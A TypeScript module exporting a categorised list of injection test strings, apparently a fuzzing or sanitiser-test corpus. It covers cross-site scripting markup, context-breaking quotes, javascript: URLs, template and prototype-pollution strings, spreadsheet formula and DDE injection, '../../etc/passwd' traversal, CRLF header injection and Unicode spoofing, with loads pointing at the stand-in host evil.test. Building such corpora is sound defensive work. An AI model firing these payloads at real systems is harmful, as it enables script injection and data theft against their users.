/** A hundred texts that do something where text is taken for more than text. */

const RUN = 'globalThis.hit=1';

/** Markup that runs a script by itself when it is parsed. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  '<iframe src=//evil.test>',
  `<iframe srcdoc="<script>${RUN}">`,
  '<object data=//evil.test>',
  '<embed src=//evil.test>',
  '<link rel=stylesheet href=//evil.test>',
  '<meta http-equiv=refresh content="0;//evil.test">',
  '<base href=//evil.test>',
  '<style>@import "//evil.test"</style>',
  '<form action=//evil.test><button autofocus>',
  '<img src=//evil.test/p.png>',
  `<math><mtext><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<marquee onstart=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
];

/** Text that ends the place it stands in: an attribute, an element, a comment, a string. */
const ENDINGS = ['"', "'", '">', "'>", '</title>', '</option>', '</textarea>', '-->', ']]>', '`'];
const BREAKING = ENDINGS.flatMap((end) => [
  `${end}<img src=x onerror=${RUN}>`,
  `${end} onmouseover=${RUN} x=`,
]);

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  '//evil.test/x',
  'url(//evil.test/x)',
  'x" style="background:url(//evil.test)',
];

const CODE = [
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\\";${RUN};//`,
  `</script><script>${RUN}</script>`,
  `<%= ${RUN} %>`,
  '__proto__',
  'constructor',
  '$& $1 $`',
  '%s %d %c',
  '{"__proto__":{"hit":1}}',
];

const CELLS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("//evil.test")',
  '=cmd|x!A0',
];

/** Text that looks like other text, or that escapes what escapes. */
const TEXTS = [
  '&lt;script&gt;',
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}`,
  `\u202Egnp.exe`,
  '\u0000<b>',
  '\u2028<b>',
  '\uFEFF<b>',
  '\uD800',
  '\u001B]0;evil\u0007',
  '\u001B[2J',
  '../../etc/passwd',
  'a\r\nSet-Cookie: x',
  'CON',
  '.',
  '<!--',
  '<![CDATA[',
  'e\u0301'.repeat(20),
  'ﷺ'.repeat(20),
  '\u200B',
  '<',
  '>',
  '&',
  '"',
  "'",
  '\\',
  '%00',
  '%3Cscript%3E',
];

/** All of them. */
export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...BREAKING,
  ...ADDRESSES,
  ...CODE,
  ...CELLS,
  ...TEXTS,
];
